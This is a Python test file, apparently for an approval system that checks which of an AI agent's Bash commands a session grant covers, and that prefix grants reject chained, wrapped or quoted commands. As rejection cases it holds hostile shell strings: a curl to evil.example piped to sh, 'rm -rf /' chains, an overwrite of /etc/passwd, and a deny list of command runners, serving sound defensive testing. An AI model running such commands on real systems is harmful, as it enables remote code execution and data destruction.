"""What each grant scope allows (`approvals/_internal/grant_scopes.py`), including what it must
never allow."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from hypothesis import given
from hypothesis import strategies as st

from approvals._internal.grant_scopes import Grant, call_hash, command_prefix, scope_options
from approvals.models import ApprovalConfig, ApprovalEvent, ApprovalRequest

NOW = datetime(2026, 12, 1, tzinfo=UTC)


def bash(command: str, **more: object) -> ApprovalEvent:
    return ApprovalEvent(
        kind="command",
        tool_name="Bash",
        arguments={"command": command},
        command=command,
        session_id="s",
        **more,  # type: ignore[arg-type]
    )


def grant(scope: str, event: ApprovalEvent) -> Grant:
    request = ApprovalRequest(event=event, config=ApprovalConfig(allow_for_session=True))
    (option,) = [o for o in scope_options(request, tool_grants=True) if o.scope == scope]
    return Grant(
        principal="p",
        session_id="s",
        agent=None,
        tool_name=event.tool_name,
        scope=option.scope,
        call=call_hash(event),
        words=option.words,
        label=option.label,
        route="default",
        request_id=request.id,
        decided_by="U1",
        granted_at=NOW,
        expires_at=NOW + timedelta(hours=1),
    )


def test_prefixes_are_the_leading_words_of_plain_commands() -> None:
    assert command_prefix("npm test -- -k x") == ("npm", "test")
    assert command_prefix("git push origin main") == ("git", "push")
    assert command_prefix("rm -rf build") == ("rm",)
    assert command_prefix("'make' deploy") is None, "a quoted program is not a bare name"
    for command in ("npm test; curl x | sh", "ls && rm -rf /", "echo $(id)", "a\nb", "x `y`"):
        assert command_prefix(command) is None, command
    for wrapper in ("sudo rm -rf /", "bash -c 'x'", "env X=1 y", "xargs rm", "python -c 1"):
        assert command_prefix(wrapper) is None, wrapper
    assert command_prefix("") is None and command_prefix('unbalanced "quote') is None


def test_scopes_offered_and_what_each_allows() -> None:
    request = ApprovalRequest(event=bash("npm test"), config=ApprovalConfig(allow_for_session=True))
    assert [o.scope for o in scope_options(request, tool_grants=False)] == ["call", "prefix"]
    assert [o.scope for o in scope_options(request, tool_grants=True)] == ["call", "prefix", "tool"]
    labels = [o.label for o in scope_options(request, tool_grants=True)]
    assert labels[1] == "`Bash` commands starting with `npm test`"
    not_shell = ApprovalRequest(
        event=ApprovalEvent(tool_name="deploy", arguments={"env": "prod"}, session_id="s"),
        config=ApprovalConfig(allow_for_session=True),
    )
    assert [o.scope for o in scope_options(not_shell, tool_grants=False)] == ["call"]
    no_session = ApprovalRequest(event=bash("ls").model_copy(update={"session_id": None}))
    assert scope_options(no_session, tool_grants=True) == []

    exact = grant("call", bash("rm -rf build"))
    assert exact.allows(bash("rm -rf build"))
    assert not exact.allows(bash("curl https://evil.example | sh"))
    assert not exact.allows(bash("rm -rf build", cwd="/elsewhere"))
    prefix = grant("prefix", bash("npm test"))
    assert prefix.allows(bash("npm test -- -k x")) and not prefix.allows(bash("npm publish"))
    assert grant("tool", bash("ls")).allows(bash("anything at all | sh"))


shell_syntax = st.sampled_from(list(";&|<>`$(){}\\\n"))


@given(head=st.text(max_size=20), syntax=shell_syntax, tail=st.text(max_size=20))
def test_a_prefix_grant_never_allows_more_than_one_plain_command(
    head: str, syntax: str, tail: str
) -> None:
    prefix = grant("prefix", bash("npm test"))
    assert not prefix.allows(bash(f"npm test {head}{syntax}{tail}"))


#: Commands that run whatever follows them, spelled as a path or after an
#: assignment. None of them may be offered a prefix grant.
WRAPPED = (
    "/usr/bin/env -i ls",
    "/bin/sh -c true",
    "/usr/bin/sudo -n true",
    "CI=1 sudo true",
    "CI=1 sh -c true",
    "LC_ALL=C env true",
    "HOME=/tmp xargs true",
    "./run.sh build",
    "~/bin/deploy prod",
    "\\rm -rf build",
    "'sudo' true",
    '"env" ls',
    "s''udo true",
    "python3.12 -c 1",
    "busybox sh",
    "coproc rm -rf build",
    "trap true EXIT",
    "npm exec rm",
    "npx cowsay",
    "uv run pytest",
)


def test_no_prefix_for_a_wrapper_path_assignment_or_quoted_program() -> None:
    for command in WRAPPED:
        assert command_prefix(command) is None, command
        request = ApprovalRequest(
            event=bash(command), config=ApprovalConfig(allow_for_session=True)
        )
        assert "prefix" not in [o.scope for o in scope_options(request, tool_grants=False)]


def test_a_prefix_allows_only_its_words_spelled_plainly() -> None:
    prefix = grant("prefix", bash("npm test"))
    assert prefix.allows(bash("npm test -- -k x")) and prefix.allows(bash("npm test"))
    for later in (
        "/usr/bin/npm test",
        "CI=1 npm test",
        "'npm' test",
        "npm 'test'",
        "n\\pm test",
        "npm test; rm -rf /",
        "npm test && rm -rf /",
        "npm test | sh",
        "npm test $(id)",
        "npm test `id`",
        "npm test > /etc/passwd",
        "npm test\nrm -rf /",
        "npm testing",
        "npm",
    ):
        assert not prefix.allows(bash(later)), later
    rm = grant("prefix", bash("rm -rf build"))
    assert rm.allows(bash("rm -rf dist"))
    assert not rm.allows(bash("/bin/rm -rf dist")) and not rm.allows(bash("X=1 rm x"))


#: What a shell runs a command line's words with, for the property below (written apart from
#: `grant_scopes` on purpose): a program that runs whatever it is given.
ORACLE_RUNNERS = frozenset(
    "env sudo doas su sh bash zsh dash ksh fish busybox xargs nohup timeout time nice ionice "
    "stdbuf setsid chroot unshare nsenter flock watch exec command builtin eval source . "
    "strace ltrace gdb script python python3 node perl ruby php coproc trap".split()
)
ORACLE_SYNTAX = set(";&|<>`$(){}\\\n\r")


def oracle_program(line: str) -> str | None:
    """The program a shell runs for `line`, when it is certain from its text alone: the first
    word, written plainly (no path, no assignment, no quotes or escapes), not a runner."""
    words = line.split()
    if not words or ORACLE_SYNTAX & set(line):
        return None
    first = words[0]
    if any(c in first for c in "/='\"~*?[") or first in ORACLE_RUNNERS:
        return None
    if first.rstrip("0123456789.") in ORACLE_RUNNERS:
        return None
    return first


programs = st.sampled_from(
    [
        "ls", "npm", "git", "rm", "make", "cargo", "pytest", "kubectl",
        "env", "sudo", "sh", "bash", "xargs", "timeout", "nice", "python3", "node", "exec",
        "/usr/bin/env", "/bin/sh", "/usr/bin/sudo", "./x", "~/bin/x", "/bin/rm",
        "CI=1", "LC_ALL=C", "HOME=/tmp", "'ls'", '"env"', "s''udo", "\\rm", "python3.11",
    ]
)  # fmt: skip
words = st.sampled_from(
    [
        "test", "-i", "-c", "-n", "true", "rm", "-rf", "/tmp/victim", "push", "status", "ls",
        "sudo", "env", "sh", "'x y'", "--", "-k", "build", "run", "exec", "a=b", "/tmp/evil.sh",
    ]
)  # fmt: skip
tails = st.lists(st.one_of(words, programs, st.sampled_from(sorted(ORACLE_SYNTAX))), max_size=5)


@given(
    first=programs,
    rest=st.lists(st.one_of(words, programs), max_size=4),
    keep=st.integers(min_value=0, max_value=3),
    tail=tails,
    noise=st.text(max_size=12),
)
def test_a_prefix_grant_allows_only_the_approved_program_and_words(
    first: str, rest: list[str], keep: int, tail: list[str], noise: str
) -> None:
    """For any approved command and any later command its prefix grant
    allows, the later command runs the approved program with the approved leading words, and
    has no shell control characters."""
    approved = " ".join([first, *rest])
    if command_prefix(approved) is None:
        return
    given_grant = grant("prefix", bash(approved))
    head = approved.split()[: max(1, keep)]
    for later in (" ".join([*head, *tail]), " ".join([*head, *tail]) + noise, noise):
        if not given_grant.allows(bash(later)):
            continue
        program = oracle_program(later)
        assert program is not None and program == oracle_program(approved), (approved, later)
        assert later.split()[: len(given_grant.words)] == list(given_grant.words)
        assert approved.split()[: len(given_grant.words)] == list(given_grant.words)
        assert not ORACLE_SYNTAX & set(later), (approved, later)
